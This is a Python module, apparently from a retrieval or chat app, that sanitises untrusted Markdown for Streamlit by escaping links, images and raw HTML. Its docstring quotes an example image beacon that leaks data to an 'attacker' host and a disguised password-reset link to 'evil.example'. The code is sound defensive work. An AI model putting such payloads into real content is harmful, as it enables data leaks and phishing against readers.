"""Untrusted text (answers, quoted passages, titles, channel names) made safe for `st.markdown`.

Documents and Slack messages are written by anyone who can upload or post. Rendered as Markdown as they are, a
passage with `![x](http://attacker/beacon.png?leak=…)` makes every reader's browser fetch the attacker's URL,
and `[Reset your password](http://evil.example)` hides where a link goes. So untrusted text keeps only an
allow-list of Markdown — emphasis, lists, headings, code — and everything that could load or hide a remote
resource is turned into visible text:

- a ">" that starts a line stays a block quote (the extractive answerer quotes its passages that way);
- images become `[image: alt — host]` (never fetched);
- links become `label (url)`, so the real address is on screen (a bare http(s) URL stays clickable as itself);
- raw HTML and autolinks (`<…>`), link brackets and entity tricks are escaped and show as typed.

Escaping is character-local, so streamed pieces can be escaped one by one (`escape_markdown`) and the final
text rendered with `safe_markdown`.
"""
from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from urllib.parse import urlsplit

# Markdown punctuation that can start a link, image, raw HTML, autolink, entity or reference definition.
# Emphasis (*, _), list markers, headings and code keep their meaning (the allow-list).
_ESCAPE = re.compile(r"([\\\[\]()<>!&])")
_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{0,2000})>?(?:\s+\"[^\"\n]*\")?\s*\)")
_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{0,2000})>?(?:\s+\"[^\"\n]*\")?\s*\)")
_REF_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\[[^\]\n]{0,200}\]")
# A bare http(s) URL. The UI's Markdown (GFM) links one by itself, but ends that link only at whitespace or "<",
# not at an escaped character: "http://x.example\\>" linked to "http://x.example%5C%3E" and showed the backslash.
# So a URL is written as an autolink, "<http://x.example>", which ends exactly where the URL does and, like the
# bare URL, shows its own address (never hidden behind a label). GFM's rules for what ends a bare URL are kept:
# trailing punctuation and an unbalanced ")" stay outside.
_BARE_URL = re.compile(r"https?://[^\s<>\"'`\\\x00\x01]+", re.IGNORECASE)
# ">" markers at the start of a line (after escaping): a block quote, which loads and hides nothing
_QUOTE_MARKERS = re.compile(r"^( {0,3})((?:\\> ?)+)", re.MULTILINE)
_TRAILING = ".,:;!?*_~"


def host_of(url: str) -> str:
    """The host a URL really points at ('' when it has none, e.g. javascript: or a relative path)."""
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return ""
    return (parts.hostname or "").lower()


def escape_markdown(text: str) -> str:
    """Every character that could open a link, image, HTML tag, autolink or entity, backslash-escaped."""
    return _ESCAPE.sub(r"\\\1", text or "")


def _url_end(url: str) -> int:
    """How much of a matched URL GFM would link: without trailing punctuation or an unbalanced ")"."""
    end = len(url)
    while end and (url[end - 1] in _TRAILING or (url[end - 1] == ")" and url.count(")", 0, end) > url.count("(", 0, end))):
        end -= 1
    return end


def escape_text(text: str | None) -> str:
    """`escape_markdown` for a whole text, except that each bare http(s) URL becomes an autolink ("<url>"): a link
    that shows its own address and ends where the URL does."""
    text = text or ""
    out, pos = [], 0
    for m in _BARE_URL.finditer(text):
        url = m.group(0)[:_url_end(m.group(0))]
        if not host_of(url):
            continue
        out.append(escape_markdown(text[pos:m.start()]) + f"<{url}>")
        pos = m.start() + len(url)
    out.append(escape_markdown(text[pos:]))
    return "".join(out)


def label_text(text: str | None) -> str:
    """Text for a label Streamlit renders as Markdown (a button, a heading): as typed, no link or image syntax, and
    "http\\://" so that a URL is not made a link where the renderer links from the source (a URL in a sidebar
    button would be followed instead of pressing the button; in a browser, buttons showed none). A heading's
    renderer links a URL from the rendered text all the same: that link shows its own address."""
    return re.sub(r"(?i)(https?):(//)|(www)\.", lambda m: f"{m.group(1)}\\:{m.group(2)}" if m.group(1)
                  else f"{m.group(3)}\\.", escape_markdown(text or ""))


def _image_text(m: re.Match) -> str:
    alt, url = m.group(1).strip(), m.group(2)
    host = host_of(url)
    return f"\x00image: {alt or 'no description'}{' — ' + host if host else ''}\x01"


def _link_text(m: re.Match) -> str:
    label, url = m.group(1).strip(), m.group(2).strip()
    if urlsplit(url).scheme.lower() in ("http", "https") and host_of(url):
        return f"{label} ({url})" if label and label != url else url
    return f"{label} (link removed: {url[:80]})" if url else label


def safe_markdown(text: str | None) -> str:
    """Allow-listed Markdown for untrusted text: no remote images, no raw HTML, every link showing its host."""
    text = text or ""
    text = _IMAGE.sub(_image_text, text)
    text = _REF_IMAGE.sub(lambda m: f"\x00image: {m.group(1).strip() or 'no description'}\x01", text)
    text = _LINK.sub(_link_text, text)
    text = _QUOTE_MARKERS.sub(lambda m: m.group(1) + m.group(2).replace("\\>", ">"), escape_text(text))
    # the image placeholders' brackets are our own: shown as literal, escaped brackets
    return text.replace("\x00", "\\[").replace("\x01", "\\]")


def safe_stream(pieces: Iterable[str]) -> Iterator[str]:
    """Streamed answer pieces, escaped one by one (links show as typed until the final render)."""
    for piece in pieces:
        yield escape_markdown(piece)


def safe_link(label: str, url: str | None) -> str | None:
    """A Markdown link for a citation URL we display ourselves: only http(s), with the real host in the label."""
    if not url or urlsplit(url.strip()).scheme.lower() not in ("http", "https") or not host_of(url):
        return None
    clean = url.strip().replace(")", "%29").replace("(", "%28").replace(" ", "%20")
    return f"[{escape_markdown(label)} ↗ {escape_markdown(host_of(url))}]({clean})"
